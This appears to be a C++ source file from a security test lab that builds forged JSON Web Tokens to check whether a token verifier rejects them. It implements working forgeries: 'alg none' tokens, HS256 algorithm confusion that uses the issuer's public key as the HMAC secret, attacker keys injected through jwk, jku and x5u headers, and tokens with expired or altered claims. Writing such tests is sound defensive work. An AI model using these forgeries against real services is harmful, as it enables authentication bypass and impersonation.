#include "tests/lab/attack/forged_token.h"

#include "wire/base/bytes.h"
#include "wire/base/digest.h"
#include "wire/signing/es256_signer.h"

namespace postern::lab {
namespace {

constexpr std::string_view kOwnKid = "attacker-1";
constexpr std::string_view kOtherIssuer = "https://issuer.attacker.test";
constexpr std::int64_t kHour = 3600;
constexpr std::string_view kByTheIssuer[] = {"expired",  "not-yet-valid", "no-exp",
                                             "no-scope", "other-issuer",  "other-type"};

// The attacker's own key, one a process.
const Es256Signer& own_key() {
  static const Es256Signer kKey = Es256Signer::generate();
  return kKey;
}

struct Parts {
  Json header;
  Json claims;
};

std::optional<Parts> parts_of(const std::string& token) {
  const std::size_t first = token.find('.');
  const std::size_t second = first == std::string::npos ? first : token.find('.', first + 1);
  if (second == std::string::npos) return std::nullopt;
  const auto header = base64url_decode(std::string_view(token).substr(0, first));
  const auto claims = base64url_decode(std::string_view(token).substr(first + 1, second - first - 1));
  if (!header || !claims) return std::nullopt;
  auto header_json = parse_json(*header);
  auto claims_json = parse_json(*claims);
  if (!header_json || !claims_json || !claims_json->is_object()) return std::nullopt;
  return Parts{*std::move(header_json), *std::move(claims_json)};
}

std::string signing_input(const Parts& parts) {
  return base64url(parts.header.dump()) + "." + base64url(parts.claims.dump());
}

// The public key as most libraries hold it: SubjectPublicKeyInfo in PEM (RFC 5480), whose bytes are the HMAC key of the
// attack.
std::optional<std::string> public_pem(const Json& keys, std::string_view kid) {
  const Json* list = keys.find("keys");
  if (list == nullptr) return std::nullopt;
  for (const Json& key : list->elements()) {
    if (key.string_at("kid") != kid) continue;
    const auto x = base64url_decode(key.string_at("x"));
    const auto y = base64url_decode(key.string_at("y"));
    const auto prefix = hex_decode("3059301306072a8648ce3d020106082a8648ce3d03010703420004");
    if (!x || !y || !prefix) return std::nullopt;
    const std::string text = base64(*prefix + *x + *y);
    std::string pem = "-----BEGIN PUBLIC KEY-----\n";
    for (std::size_t at = 0; at < text.size(); at += 64) pem += text.substr(at, 64) + "\n";
    return pem + "-----END PUBLIC KEY-----\n";
  }
  return std::nullopt;
}

Json own_header(const Parts& parts) {
  return Json::object({{"alg", "ES256"}, {"typ", parts.header.string_at("typ")}, {"kid", kOwnKid}});
}

Result<std::string> hs256(const ForgeryMeans& means, Parts parts) {
  const auto key = public_pem(means.issuer_keys, parts.header.string_at("kid"));
  if (!key) return NotObservable{"its issuer publishes no P-256 key of the token's kid"};
  parts.header.set("alg", "HS256");
  const std::string input = signing_input(parts);
  return input + "." + base64url(hmac_sha256(*key, input));
}

// What the issuer signs with its own key, and would never give.
Result<std::string> signed_by_the_issuer(const ForgeryMeans& means, Parts parts, std::string_view how) {
  const std::int64_t now = unix_seconds(means.now);
  if (how == "expired") {
    parts.claims.set("iat", now - 2 * kHour).set("exp", now - kHour);
    if (parts.claims.has("nbf")) parts.claims.set("nbf", now - 2 * kHour);
  } else if (how == "not-yet-valid") {
    parts.claims.set("nbf", now + kHour).set("exp", now + 2 * kHour);
  } else if (how == "no-exp") {
    parts.claims.erase("exp");
  } else if (how == "no-scope") {
    parts.claims.erase("scope");
  } else if (how == "other-issuer") {
    parts.claims.set("iss", kOtherIssuer);
  } else {
    parts.header.set("typ", "JWT");
  }
  return means.sign_as_issuer(parts.header, parts.claims);
}

}  // namespace

const std::vector<std::string>& forgery_ways() {
  static const std::vector<std::string> kWays = {"no-scope",         "other-issuer", "other-type",       "expired",
                                                 "not-yet-valid",    "no-exp",       "untrusted-issuer", "alg-none",
                                                 "hs256-public-key", "own-jwk",      "own-jku",          "own-x5u"};
  return kWays;
}

Json own_key_set() {
  return Json::object({{"keys", Json::array({own_key().public_jwk(kOwnKid)})}});
}

Result<std::string> forged_token(const ForgeryMeans& means, std::string_view how) {
  auto parts = parts_of(means.genuine);
  if (!parts) return NotObservable{"its tokens are not JSON Web Signatures that could be forged"};
  for (const std::string_view one : kByTheIssuer) {
    if (how == one) return signed_by_the_issuer(means, *std::move(parts), how);
  }
  if (how == "hs256-public-key") return hs256(means, *std::move(parts));
  if (how == "alg-none") {
    parts->header.set("alg", "none");
    return signing_input(*parts) + ".";
  }
  Json header = own_header(*parts);
  if (how == "untrusted-issuer") {
    parts->claims.set("iss", kOtherIssuer);
  } else if (how == "own-jwk") {
    header.set("jwk", own_key().public_jwk(kOwnKid));
  } else if (how == "own-jku") {
    header.set("jku", means.own_keys_url);
  } else if (how == "own-x5u") {
    header.set("x5u", means.own_keys_url);
  } else {
    return AttackFailed{"nobody knows how to forge a token that is \"" + std::string(how) + "\""};
  }
  return own_key().compact_jws(header, parts->claims);
}

}  // namespace postern::lab
